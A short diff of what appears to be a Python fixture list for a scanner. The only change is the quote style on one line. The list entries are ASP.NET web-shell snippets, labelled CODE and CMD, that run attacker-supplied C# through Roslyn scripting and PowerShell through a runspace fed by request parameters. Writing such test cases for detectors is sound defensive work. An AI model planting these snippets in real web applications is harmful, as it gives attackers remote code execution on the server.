@@ -96,7 +96,7 @@ FLOWS = [
     ("roslyn scripting", '<% var r = CSharpScript.EvaluateAsync(Request["s"]).Result; %>', CODE),
     (
         "powershell runspace",
-        '<% var rs = RunspaceFactory.CreateRunspace(); rs.Open(); var p = rs.CreatePipeline();'
+        "<% var rs = RunspaceFactory.CreateRunspace(); rs.Open(); var p = rs.CreatePipeline();"
         ' p.Commands.AddScript(Request.Form["ps"]); var r = p.Invoke(); %>',
         CMD,
     ),
